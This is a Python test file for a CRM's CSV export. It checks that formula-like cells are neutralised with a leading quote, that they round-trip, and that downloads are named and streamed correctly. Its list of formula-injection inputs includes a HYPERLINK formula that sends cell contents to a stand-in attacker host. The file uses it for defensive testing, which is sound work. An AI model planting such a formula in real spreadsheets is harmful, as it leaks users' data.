"""No exported cell runs as a formula, and our own import gives back exactly what was exported (T20)."""

import csv
import tracemalloc
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crm.web.csv_export import csv_download, csv_lines, guard_cell, unguard_cell

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+49 151 34703805",
    "-5",
    "@SUM(1)",
    "@nick",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\x00=1",
    "\ufeff=1",
    "\u200b=1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}A1",
    "'=1",
    "''=1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_leaves_as_text_and_comes_back_as_it_was(text):
    guarded = guard_cell(text)

    assert guarded == f"'{text}"
    assert unguard_cell(guarded) == text


@pytest.mark.parametrize(
    "text", ["Anna", "O'Brien", "'Anna'", "a=b", "5-7", "", "1", "x@example.com"]
)
def test_plain_text_is_left_alone(text):
    assert guard_cell(text) == text
    assert unguard_cell(text) == text


def test_values_become_text():
    assert [guard_cell(value) for value in (None, 7, True)] == ["", "7", "True"]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_any_row_survives_the_round_trip(cells):
    cells = [cell.replace("\x00", "") for cell in cells]
    text = "".join(csv_lines([cells], delimiter=";"))

    (row,) = csv.reader(StringIO(text, newline=""), delimiter=";") if any(cells) else [cells]

    assert [unguard_cell(cell) for cell in row] == cells
    assert not any(cell.lstrip(" ").startswith(("=", "+", "-", "@")) for cell in row)


def test_download_is_a_file_to_save_under_its_own_name(db):
    response = csv_download([["Name"], ["Łódź"]], file_name="Łódź & co.csv")

    assert b"".join(response) == "\ufeffName\r\nŁódź\r\n".encode()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        "attachment; filename*=UTF-8''%C5%81%C3%B3d%C5%BA%20%26%20co.csv"
    )
    response.close()


def test_a_long_download_is_not_held_in_memory(db):
    rows = ([number, "x" * 1000] for number in range(20_000))
    tracemalloc.start()

    response = csv_download(rows, file_name="long.csv")
    length = sum(len(piece) for piece in response)

    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    response.close()
    assert length > 20_000_000
    assert most < 4_000_000
